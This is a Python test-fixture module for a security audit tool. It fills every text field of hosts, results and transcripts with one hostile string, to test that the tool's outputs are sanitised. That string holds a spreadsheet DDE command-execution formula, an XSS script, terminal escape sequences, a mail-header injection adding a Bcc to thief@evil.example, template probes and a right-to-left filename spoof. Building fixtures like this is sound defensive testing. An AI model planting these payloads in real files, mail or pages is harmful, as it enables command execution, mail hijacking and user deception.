"""A customer whose every text is an attack: on terminals, browsers, spreadsheets, mail and trackers."""

from __future__ import annotations

from dataclasses import fields, replace
from datetime import datetime, timedelta
from typing import Any, TypeVar

from secaudit.model.answer import Answer, HostTranscript, Reach
from secaudit.model.evidence import Evidence
from secaudit.model.inventory import Host
from secaudit.model.outcome import Outcome, UnprovenKind
from secaudit.model.result import Result, Waiver, fingerprint
from secaudit.model.run import HostRecord, RunInfo
from secaudit.store import Store
from secaudit.transcript import digest
from tests.store.scenes import START, a_result, a_run, a_transcript

FORBIDDEN = frozenset(
    "".join(map(chr, (*range(9), *range(0x0B, 0x20), *range(0x7F, 0xA0))))
    + "\u061c\u200b\u200e\u200f\u2028\u2029\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069\ufeff\ufffe\uffff"
    + "\U000e0041\ud800"
)
"""What no output may hold, beside newline and tab."""

EVIL = (
    "=cmd|'/C calc'!A0 <script>alert(1)</script> \"' onload=x ]]> --> \x1b[2J\x1b]8;;http://evil/\x07\x9b31m \x00 \x08"
    "\r\nBcc: thief@evil.example\r\n\r\n@everyone <!channel> #1 closes #1 /close {{7*7}} {noformat} %s %(x)s ``` "
    "\u202eexe.gpj\u2066 \u200b \u2028 \U000e0041 \ufffe \ud800 \u3164"
)
"""One text with all of it."""

WRITTEN = EVIL.replace("\ud800", "").replace("\x00", "")
"""What of it may stand in a file or on a command line."""

NAME = "web\x1b[31m\u202e1\r\n<b>"
"""A name: bundles of somebody else may bring such hosts."""

R = TypeVar("R")


def everywhere(record: R, *spared: str, text: str = EVIL) -> R:
    """A record whose every text is the attack, but those named."""
    texts = {
        field.name: text
        for field in fields(record)  # type: ignore[arg-type]  # any dataclass
        if isinstance(getattr(record, field.name), str) and type(getattr(record, field.name)) is str
    }
    changed: dict[str, Any] = {name: text for name in texts if name not in spared}
    return replace(record, **changed)  # type: ignore[type-var]  # any dataclass


def evil_host(name: str = NAME) -> Host:
    """A host of a customer, both with impossible names."""
    return Host(f"muster{NAME}", EVIL, name, EVIL, tags=frozenset({EVIL}))


def evil_results(host: Host) -> tuple[Result, ...]:
    """A result of every outcome, every text of which is the attack."""
    template = a_result(host, control=EVIL, subject=EVIL)
    found = []
    for outcome in Outcome:
        for is_waived in (False, True):
            subject = f"{outcome.value}{is_waived}{EVIL}"
            identity = fingerprint(host.customer, host.name, EVIL, subject)
            one = everywhere(
                replace(template, outcome=outcome, kind=UnprovenKind.DENIED if outcome is Outcome.UNPROVEN else None),
                *("customer", "host"),
            )
            found.append(
                replace(
                    one,
                    fingerprint=identity,
                    subject=subject,
                    evidence=(Evidence(EVIL, 0, (1, 2), EVIL), Evidence(EVIL, None, None, EVIL)),
                    references={EVIL: (EVIL,)},
                    waiver=Waiver(EVIL, EVIL, START + timedelta(days=9), EVIL, EVIL) if is_waived else None,
                    first_seen=START,
                )
            )
    return tuple(found)


def evil_transcript(host: Host, run: RunInfo, reach: Reach) -> HostTranscript:
    """What such a host said."""
    said = EVIL.encode("utf-8", "surrogatepass")
    asked = a_transcript(host, run.started).answers
    answers = tuple(replace(answer, stdout=said, stderr=said, detail=EVIL) for answer in asked)
    told: tuple[Answer, ...] = answers if reach is not Reach.UNREACHABLE else ()
    return HostTranscript(
        host.customer, host.site, host.name, host.address, run.started, run.started, reach, EVIL, told
    )


def evil_record(host: Host, transcript: HostTranscript) -> HostRecord:
    """The record of such a host."""
    names = (host.customer, host.site, host.name, host.address)
    return HostRecord(*names, transcript.reach, EVIL, EVIL, EVIL, digest(transcript), EVIL, tuple(sorted(host.tags)))


def evil_run(store: Store, started: datetime = START) -> RunInfo:
    """Two hosts of one run: one was reached, one was not."""
    run = replace(a_run(3), started=started)
    reached, away = evil_host(), evil_host("away")
    store.begin(run, [reached, away])
    for host, reach in ((reached, Reach.PARTIAL), (away, Reach.UNREACHABLE)):
        transcript = evil_transcript(host, run, reach)
        results = evil_results(host) if reach is Reach.PARTIAL else ()
        store.record(run, evil_record(host, transcript), results, transcript)
    ended = replace(run, finished=run.started + timedelta(minutes=1))
    store.finish(ended)
    return ended
